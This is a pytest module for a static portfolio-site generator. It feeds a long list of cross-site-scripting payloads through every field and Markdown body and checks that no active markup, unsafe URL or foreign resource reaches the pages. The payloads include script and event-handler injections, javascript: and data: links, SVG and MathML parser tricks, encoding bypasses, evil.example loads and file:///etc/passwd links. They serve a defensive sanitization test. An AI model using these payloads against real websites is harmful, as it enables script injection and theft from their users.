"""Hostile texts in every field and in every body: nothing that an author can write becomes markup that acts.

The pages may hold only the elements and attributes that teczka writes itself or makes from Markdown; where a page gets an
element of a new kind, it is added to the list below after a look at what can stand in it.
"""

import json
import re
import struct
import zlib

import pytest

import program
from test_build import Page, build_well, pages

ELEMENTS = {
    # the frame
    "html", "head", "meta", "title", "link", "body", "header", "nav", "main", "footer", "section", "article", "figure", "figcaption", "div", "span",
    "h1", "h2", "h3", "h4", "h5", "h6", "p", "a", "time", "small", "ul", "ol", "li", "dl", "dt", "dd", "table", "thead", "tbody", "tr", "th", "td",
    "img", "audio", "video", "br", "data", "details", "summary", "script",
    # the timeline
    "svg", "g", "rect", "line", "path", "text",
    # Markdown
    "em", "strong", "del", "code", "pre", "blockquote", "hr", "sup", "input",
}  # fmt: skip
ATTRIBUTES = {
    "lang", "charset", "name", "content", "http-equiv", "rel", "href", "hreflang", "class", "id", "src", "srcset", "sizes", "alt", "width", "height", "loading", "controls",
    "preload", "datetime", "scope", "role", "tabindex", "aria-label", "aria-labelledby", "aria-describedby", "aria-current", "title", "start",
    "viewbox", "x", "y", "x1", "x2", "y1", "y2", "rx", "d", "text-anchor", "type", "checked", "disabled", "data-footnotes", "data-footnote-ref",
    "data-footnote-backref", "data-footnote-backref-idx", "align", "transform", "overflow", "value", "stroke", "fill", "open", "aria-hidden",
    "dx", "vector-effect", "preserveaspectratio", "data-label", "property",
}  # fmt: skip
SCHEMES = {"https", "http", "mailto", "tel"}

# Where HTML can begin, end or come out of something, told in as many ways as browsers have ever read.
MARKUP = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "script in two": "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "script without an end": "<script>alert(1)//",
    "script with a slash": "<script/x>alert(1)</script/x>",
    "script with a line end": "<script\n>alert(1)</script\n>",
    "data script": '<script src="data:text/javascript,alert(1)"></script>',
    "end of the title": "</title><script>alert(1)</script>",
    "end of the head": "</title></head><body onload=alert(1)>",
    "end of a style": "</style><script>alert(1)</script>",
    "end of a textarea": "</textarea><script>alert(1)</script>",
    "end of the page": "</body></html><script>alert(1)</script>",
    "picture": "<img src=x onerror=alert(1)>",
    "picture with quotes": "<img src=\"x\" onerror='alert(1)'>",
    "picture with backquotes": "<img src=`x` onerror=`alert(1)`>",
    "picture without spaces": "<img/src=x/onerror=alert(1)>",
    "picture without an end": '<img src=x onerror=alert(1) x="',
    "picture with a srcset": '<img srcset="https://evil.example/p.png 1x">',
    "old name of a picture": "<image src=x onerror=alert(1)>",
    "drawing": "<svg onload=alert(1)>",
    "drawing with a script": "<svg><script>alert(1)</script></svg>",
    "drawing with a link": '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "drawing that moves": '<svg><animate attributeName=href values="javascript:alert(1)"/></svg>',
    "drawing with a foreign part": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "drawing with a style": "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "formula": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "frame": '<iframe src="javascript:alert(1)"></iframe>',
    "frame of text": '<iframe srcdoc="&lt;script>alert(1)&lt;/script>">',
    "object": '<object data="javascript:alert(1)"></object>',
    "embed": '<embed src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
    "base": '<base href="https://evil.example/">',
    "refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    "stylesheet": '<link rel=stylesheet href="https://evil.example/x.css">',
    "style": "<style>@import url(https://evil.example/x.css); body{display:none}</style>",
    "style of an element": '<p style="position:fixed;inset:0;background:url(https://evil.example)">x</p>',
    "form": '<form action="https://evil.example"><input name=passphrase autofocus onfocus=alert(1)><button>Unlock</button></form>',
    "button": "<button formaction=javascript:alert(1)>x</button>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "sound": "<audio src onerror=alert(1)></audio><video><source onerror=alert(1)></video>",
    "template": "<template><script>alert(1)</script></template>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "plaintext": "<plaintext>",
    "xmp": "<xmp><img src=x onerror=alert(1)></xmp>",
    "unknown element": "<x-y onclick=alert(1) autofocus tabindex=1>x</x-y>",
    "comment": "<!-- --!><script>alert(1)</script> -->",
    "comment of old": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "comment without an end": "<!-- x",
    "character data": "<![CDATA[<script>alert(1)</script>]]>",
    "instruction": "<?xml version='1.0'?><?php echo 1 ?>",
    "doctype": '<!DOCTYPE html [<!ENTITY x "<script>">]>&x;',
    "out of double quotes": '" onmouseover="alert(1)" x="',
    "out of single quotes": "' onmouseover='alert(1)' x='",
    "out of backquotes": "` onmouseover=`alert(1)` x=`",
    "out of an attribute": '"><img src=x onerror=alert(1)><a b="',
    "out of a self-closing tag": '"/><script>alert(1)</script>',
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "entities by number": "&#60;script&#62;alert(1)&#x3C;/script&#x3e;",
    "entities without an end": "&lt&#60script&#x3Ealert(1)",
    "entities twice": "&amp;lt;script&amp;gt;",
    "entity for a quote": "&quot; onmouseover=&quot;alert(1)",
    "line separators": "a\u2028<script>alert(1)</script>\u2029b",
    "letters that fold": "<ſcript>alert(1)</ſcript><ımg src=x>",
    "wide brackets": "＜script＞alert(1)＜/script＞",
    "right to left": "\u202e<script>alert(1)</script>\u202c",
    "invisible letters": "<\u200bscript>alert(1)</\u200bscript>",
    "template language": "{{constructor.constructor('alert(1)')()}} ${alert(1)} <%= 1 %> #{1}",
    "only a bracket": "<",
    "brackets": "<><<>></><//>",
}  # fmt: skip

# What Markdown can make a link, a picture or HTML of.
MARKDOWN = {
    "link": "[x](javascript:alert(1))",
    "link in capitals": "[x](JaVaScRiPt:alert(1))",
    "link in brackets": "[x](<javascript:alert(1)>)",
    "link with a title": '[x](javascript:alert(1) "title" )',
    "link with entities": "[x](&#106;avascript&colon;alert(1)) [y](javascript&#58;alert(1)) [z](java&Tab;script&NewLine;:alert(1))",
    "link with escapes": "[x](javascript\\:alert\\(1\\)) [y](j\\avascript:alert(1))",
    "link with percent signs": "[x](javascript%3Aalert(1)) [y](%6aavascript:alert(1)) [z](java%0ascript:alert(1))",
    "link with controls": "[x](\u2003javascript:alert(1)) [y](\u00a0javascript:alert(1)) [z](\ufeffjavascript:alert(1))",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "data picture": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "vbscript": "[x](vbscript:msgbox(1)) [y](livescript:1) [z](mocha:1)",
    "files": "[x](file:///etc/passwd) [y](blob:https://a/b) [z](view-source:https://a) [w](filesystem:x)",
    "unknown scheme": "[x](intent://x#Intent;end) [y](ms-word:x) [z](x-y+z.1:a)",
    "scheme of the page": "[x](//evil.example/x) [y](/\\evil.example) [z](\\\\evil.example) [w](/absolute)",
    "query alone": "[x](?javascript:alert(1))",
    "path with a colon": "[x](./javascript:alert(1)) [y](a/b:c)",
    "out of the address": '[x](https://a.example/"onmouseover="alert(1)) [y](<https://a.example/" onmouseover="alert(1)>)',
    "out of the title": '[x](https://a.example \'" onmouseover="alert(1)\') [y](https://a.example "&quot; onmouseover=&quot;alert(1)")',
    "out of the description": '![" onerror="alert(1)](https://a.example/x.png) ![<img src=x onerror=alert(1)>](https://a.example/x.png)',
    "picture of another host": "![x](https://evil.example/track.png) ![x][r]\n\n[r]: https://evil.example/track.png",
    "picture with a script": "![x](javascript:alert(1)) ![y](<java\tscript:alert(1)>)",
    "picture in a link": "[![x](https://a.example/p.png)](javascript:alert(1)) [![x](javascript:alert(1))](https://a.example)",
    "reference": "[x]\n\n[x]: javascript:alert(1)",
    "reference in brackets": "[x][1] ![x][1]\n\n[1]: <javascript:alert(1)> 'title'",
    "reference twice": "[x]\n\n[x]: https://a.example\n[x]: javascript:alert(1)",
    "autolink": "<javascript:alert(1)> <data:text/html,x> <vbscript:x> <JAVASCRIPT:alert(1)>",
    "autolink with an attribute": '<https://a.example/"onmouseover="alert(1)> <https://a.example/onmouseover=alert(1)>',
    "bare address": 'https://a.example/"><script>alert(1)</script> www.a.example/<img/src=x/onerror=alert(1)> a@b.example"onclick=alert(1)',
    "bare scheme": "javascript:alert(1) javascript://a.example/%0aalert(1) ftp://a.example xmpp:a@b.example",
    "html in a line": "a <b onclick=alert(1)>b</b> <script>alert(1)</script> <a href=javascript:alert(1)>x</a>",
    "html as a block": "<div onclick=alert(1)>\n\n*x*\n\n</div>\n\n<script>\n\nalert(1)\n\n</script>",
    "html in a list": "- <script>alert(1)</script>\n- <img src=x onerror=alert(1)>\n  1. <svg onload=alert(1)>",
    "html in a quote": "> <script>alert(1)</script>\n> <style>*{}</style>",
    "html in a table": "| <script>alert(1)</script> | [x](javascript:alert(1)) |\n|---|:-:|\n| <img src=x onerror=alert(1)> | `<svg onload=alert(1)>` |",
    "html in a heading": "# <script>alert(1)</script>\n\n[x](javascript:alert(1))\n---\n\n## <img src=x onerror=alert(1)> {#id onclick=alert(1)}",
    "html in a footnote": "a[^1] b[^\"><script>]\n\n[^1]: <script>alert(1)</script> [x](javascript:alert(1))\n[^\"><script>]: x",
    "html in strikethrough": "~~<script>alert(1)</script>~~ ~~[x](javascript:alert(1))~~",
    "html in a task": "- [ ] <script>alert(1)</script>\n- [x] [y](javascript:alert(1))",
    "code": "`<script>alert(1)</script>` ``` <img src=x onerror=alert(1)> ```",
    "code block": '```"onmouseover=alert(1) <script>\n</code></pre><script>alert(1)</script>\n```\n\n    </pre><script>alert(1)</script>',
    "code block with a class": "```js\" onclick=\"alert(1)\nx\n```\n\n~~~<script>\nx\n~~~",
    "comments": "<!-- a --><script>alert(1)</script><!-- b --> <!--><img src=x onerror=alert(1)>-->",
    "comment that ends early": "<!-- a --!> <script>alert(1)</script> -->\n\n<!-->\n<script>alert(1)</script>\n-->",
    "entities": "&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x onerror=alert(1)&#62; &NotAnEntity; &#0; &#xD800; &#x110000;",
    "escapes": "\\<script>alert(1)\\</script> \\&lt;script> \\[x](javascript:alert(1))",
    "brackets without end": "[x](javascript:alert(1\n\n[y](<javascript:alert(1)\n\n![z](",
    "emphasis between": "<scr*ipt>alert(1)</scr*ipt> **<img src=x** onerror=alert(1)>",
    "lines between": "<script\n>alert(1)</script\n> [x](java\nscript:alert(1)) [y](<java\nscript:alert(1)>)",
    "links in links": "[a [b](javascript:alert(1)) c](https://a.example) [[x](https://a.example)](javascript:alert(1))",
    "mail": "[x](mailto:a@b.example?subject=<script>&body=\"onclick=alert(1)) <a@b.example>",
    "phone": "[x](tel:+48600;phone-context=\"onclick=alert(1)) [y](TEL:1)",
    "record links": "[x](../competences/one.md\"onclick=alert(1)) [z](../../about.md) [w](../competences/one.md?javascript:alert(1))",
}  # fmt: skip

BENIGN = "A word"


class Plain(str):
    """A YAML scalar that is written as it stands: a date, a word of a list."""


def yaml(value) -> str:
    """A value in flow style, texts in double quotes."""
    if isinstance(value, Plain):
        return value
    if isinstance(value, dict):
        return "{" + ", ".join(f"{key}: {yaml(item)}" for key, item in value.items()) + "}"
    if isinstance(value, list):
        return "[" + ", ".join(map(yaml, value)) + "]"
    return json.dumps(value, ensure_ascii=False)


def facts(text: str) -> dict:
    """A record of each type with the text in every field that takes any text; each is public where it can be."""
    address = "https://a.example/'onmouseover='alert(1)&#34;onclick=alert(1)&quot;?javascript:alert(1)#javascript:alert(1)"
    file = "'onerror='alert(1) <img src=x onerror=alert(1)>\".jpg"
    public = Plain("public")
    return {
        "portfolio.yaml": {
            "title": text, "language": Plain("en"), "languages": [Plain("pl")], "purpose": Plain("job"), "colours": {"accent": "#123abc"}, "logo": file,
            "accept": [{"code": Plain("unit-unshared"), "reason": text}],
        },
        "about.md": {
            "name": text, "headline": text, "photo": file, "email": "\"onclick=alert(1)//'&lt;@a.example", "phone": text, "address": text,
            "birth_date": Plain("1999-03-07"), "links": [{"label": text, "url": address}],
            "public": [Plain(key) for key in ("name", "headline", "photo", "email", "phone", "address", "birth_date", "links", "profile")],
        },
        "experiences/one.md": {
            "title": text, "kind": Plain("hobby"), "organisation": text, "place": text, "start": Plain("2024"), "end": Plain("present"), "tags": [text],
        },
        "competences/one.md": {
            "title": text, "kind": Plain("skill"), "experiences": ["one"], "evidence": ["one"], "outcomes": ["one/1/1", "one/1/1/1"], "level": text,
            "source": Plain("own"), "esco": address, "tags": [text],
        },
        "evidence/one.md": {
            "title": text, "kind": Plain("diploma"), "date": Plain("2025"), "issuer": text, "author": text, "url": address, "files": [file],
            "criteria": {"authenticity": text, "validity": text, "sufficiency": text, "currency": text}, "tags": [text],
        },
        "frameworks/one.yaml": {
            "name": text, "kind": Plain("standard"), "register": text, "code": text, "level": text, "certificate": text, "valid": text, "url": address,
            "levels": [text], "tags": [text],
            "sets": [{"number": 1, "name": text, "level": text, "outcomes": [{"code": 1, "name": text, "criteria": [text]}]}],
        },
        "folders/one.md": {"title": text, "visibility": public, "purpose": text, "include": {"competences": Plain("all"), "tags": [text]}, "tags": [text]},
        "cvs/one.md": {
            "title": text, "visibility": public, "folders": ["one"], "contact": [Plain(key) for key in ("name", "headline", "email", "phone", "address", "links")],
            "clause": text, "tags": [text],
        },
        "plans/one.md": {
            "goal": text, "visibility": public, "smart": dict.fromkeys(("specific", "measurable", "achievable", "relevant", "time_bound"), text),
            "start": Plain("2026-01-01"), "deadline": Plain("2027-01-01"), "tags": [text],
            "steps": [
                {"title": text, "due": Plain("2026-06-01"), "competences": ["one"], "provider": text, "funding": {"source": text, "amount": 5, "currency": "PLN"}},
                {"title": text + " 2", "due": Plain("2026-12-01"), "needs": [text]},
            ],
            "questions": dict.fromkeys(("influences", "knowledge", "obstacles", "helpers", "change"), text), "alternatives": ["two"],
        },
        "plans/two.md": {
            "goal": text, "visibility": public, "smart": {"specific": text}, "start": Plain("2026-01-01"), "deadline": Plain("2027-01-01"),
            "steps": [{"title": text, "due": Plain("2026-06-01")}],
        },
        "meetings/one.md": {
            "date": Plain("2026-01-01"), "with": text, "goals": text, "results": text, "progress": text, "next": text, "tags": [text],
        },
    }  # fmt: skip


TITLES = {"portfolio.yaml": "title", "frameworks/one.yaml": "name", "plans/one.md": "goal", "plans/two.md": "goal"}


def png() -> bytes:
    """A picture of one pixel."""
    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack(">I", len(content)) + name + content + struct.pack(">I", zlib.crc32(name + content))

    head = struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")


PICTURE = png()


def hostile_portfolio(text: str, body: str) -> dict:
    """A portfolio of a text in every field and a body in every record that has one, in two languages."""
    files = {}
    for path, record in facts(text).items():
        stem, _, form = path.rpartition(".")
        lines = "".join(f"{key}: {yaml(value)}\n" for key, value in record.items())
        files[f"content/{path}"] = f"---\n{lines}---\n{body}\n" if form == "md" else lines
        if path in ("about.md", "meetings/one.md"):
            continue
        translation = f"{TITLES.get(path, 'title')}: {yaml(text)}\n"
        files[f"content/{stem}.pl.{form}"] = f"---\n{translation}---\n{body}\n" if form == "md" else translation
    for folder in ("", "evidence/"):
        files[f"content/{folder}" + facts(text)["evidence/one.md"]["files"][0]] = PICTURE
    return files


def dangers(page: Page) -> list:
    """What may not stand in a page."""
    found = list(page.problems)
    for tag, attributes in page.elements:
        # A drawing's parts have titles too, and that of the head is the page's own.
        if tag not in ELEMENTS:
            found.append(f"<{tag}>")
        for name, value in attributes.items():
            if name not in ATTRIBUTES:
                found.append(f"<{tag} {name}={value}>")
            if name in ("href", "src"):
                found += [f"<{tag} {name}={value}>"] if not is_harmless(value, is_loaded=name == "src") else []
        if tag == "input" and attributes.get("type") != "checkbox":
            found.append(f"<input type={attributes.get('type')}>")
        if tag == "link" and not re.fullmatch(LINKS.get(attributes["rel"], ""), attributes["href"]):
            found.append(f"<link {attributes}>")
        # Data that no browser runs.
        if tag == "script" and attributes != {"type": "application/ld+json"}:
            found.append(f"<script {attributes}>")
        if tag == "svg" and not attributes:
            found.append("a drawing")
    policies = [attributes["content"] for attributes in page.all("meta") if "http-equiv" in attributes]
    if policies != [POLICY]:
        found.append(f"policy {policies}")
    return found


# The page for lost addresses stands anywhere, so its links begin at the root.
LINKS = {"stylesheet": r"(/|(\.\./)*)assets/style\.[0-9a-f]+\.css", "icon": r"(/|(\.\./)*)assets/icon\.[0-9a-f]+\.svg"}


POLICY = "default-src 'none'; style-src 'self'; img-src 'self'; media-src 'self'; base-uri 'none'; form-action 'none'"


def is_harmless(address: str, is_loaded: bool) -> bool:
    """Whether a browser, which drops white space and controls first, is led to a page, a mail or a call."""
    plain = re.sub(r"[\x00-\x20\x7f]", "", address)
    scheme = re.match(r"[A-Za-z][A-Za-z0-9+.-]*(?=:)", plain)
    if is_loaded:
        return scheme is None and not plain.startswith(("//", "/\\", "\\"))
    return scheme[0].lower() in SCHEMES if scheme else not plain.startswith(("//", "/\\", "\\"))


@pytest.fixture(scope="module")
def benign_stylesheet(tmp_path_factory):
    """What the stylesheet is where nothing hostile was written."""
    site = build_well(program.write_portfolio(tmp_path_factory.mktemp("benign"), hostile_portfolio(BENIGN, BENIGN)))
    return [(path.name, path.read_bytes()) for path in site.glob("assets/*")]


def read_all(folder, text, body):
    site = build_well(program.write_portfolio(folder, hostile_portfolio(text, body)))
    read = pages(site)
    assert len(read) == 2 * 8 + 1, sorted(read)  # and 404.html
    return site, read


class TestHostile:
    """Each payload through every field and every body."""

    @pytest.mark.parametrize("name", MARKUP)
    def test_markup(self, tmp_path, name, benign_stylesheet):
        site, read = read_all(tmp_path, MARKUP[name], MARKUP[name])
        assert {path: found for path, page in read.items() if (found := dangers(page))} == {}
        assert [(path.name, path.read_bytes()) for path in site.glob("assets/*")] == benign_stylesheet

    @pytest.mark.parametrize("name", MARKDOWN)
    def test_markdown(self, tmp_path, name):
        _, read = read_all(tmp_path, MARKDOWN[name], MARKDOWN[name])
        assert {path: found for path, page in read.items() if (found := dangers(page))} == {}

    @pytest.mark.parametrize("name", [*MARKUP, *MARKDOWN])
    def test_titles_are_shown_as_they_are_written(self, tmp_path, name):
        text = MARKUP.get(name) or MARKDOWN[name]
        _, read = read_all(tmp_path, text, BENIGN)
        for kind in ("experiences", "competences", "evidence", "folders", "plans"):
            page = read[f"{kind}/one/index.html"]
            assert "".join(page.text["h1"]) == text, kind
            assert "".join(page.text["title"]).startswith(text), kind
        assert "".join(read["index.html"].text["h1"]) == text

    @pytest.mark.parametrize("name", [*MARKUP, *MARKDOWN])
    def test_structure_does_not_depend_on_the_text(self, tmp_path, name):
        """Text in fields, whatever it is, gives the same elements with the same attributes' names."""
        text = MARKUP.get(name) or MARKDOWN[name]
        _, benign = read_all(tmp_path / "benign", BENIGN, BENIGN)
        _, hostile = read_all(tmp_path / "hostile", text, BENIGN)
        for path, page in benign.items():
            assert shape(hostile[path]) == shape(page), path


def shape(page: Page) -> list:
    return [(tag, sorted(attributes)) for tag, attributes in page.elements]


class TestCompleteness:
    """The tests above leave out no field, and can fail."""

    def test_every_text_field_is_hostile(self):
        """Every property of the printed JSON Schemas that takes any text holds the payload."""
        schemas = json.loads(program.run("schema").stdout)
        payload = "<payload>"
        records = {}
        for path, record in facts(payload).items():
            records.setdefault(path.split("/")[0].split(".")[0], record)
        folders = {"portfolio": "portfolio", "about": "about", "experience": "experiences", "competence": "competences", "evidence": "evidence",
                   "framework": "frameworks", "folder": "folders", "cv": "cvs", "plan": "plans", "meeting": "meetings"}  # fmt: skip
        missing = [f"{kind}.{path}" for kind, schema in schemas.items() if kind in folders for path in free_texts(schema, records[folders[kind]], payload)]
        assert missing == []

    @pytest.mark.parametrize(
        "html",
        [
            "<script></script>", "<p onclick=x></p>", "<a href='javascript:x'></a>", "<a href=' java\nscript:x'></a>", "<img src='//evil.example'>",
            "<img src='https://evil.example'>", "<iframe></iframe>", "<p style=x></p>", "<input type=text>", "<a href='//evil'></a>", "<!-- x -->",
            "<link rel=stylesheet href='https://evil.example/x.css'>", "<meta http-equiv=refresh content=0>", "<svg></svg>", "<base href=x>",
        ],
    )  # fmt: skip
    def test_dangers_are_seen(self, html):
        page = f'<meta http-equiv="Content-Security-Policy" content="{POLICY}">'
        assert dangers(Page(page)) == []
        try:
            assert dangers(Page(page + html)) != []
        except KeyError:
            pass  # An element that lacks what ours always have.


def free_texts(schema: dict, record, payload: str, path: str = ""):
    """The properties of a schema that take any text and whose value in the record lacks the payload."""
    for key, part in schema.get("properties", {}).items():
        value = record.get(key) if isinstance(record, dict) else None
        yield from lacking(part, value, payload, f"{path}{key}")


def lacking(part: dict, value, payload: str, path: str):
    kinds = part.get("type") if isinstance(part.get("type"), list) else [part.get("type")]
    if "string" in kinds and "enum" not in part and "const" not in part and part.get("pattern", r"\S") == r"\S" and "format" not in part:
        if payload not in str(value):
            yield path
    elif "object" in kinds:
        yield from free_texts(part, value, payload, path + ".")
    elif "array" in kinds and isinstance(part.get("items"), dict):
        for item in value or [None]:
            yield from lacking(part["items"], item, payload, path + "[]")
            break
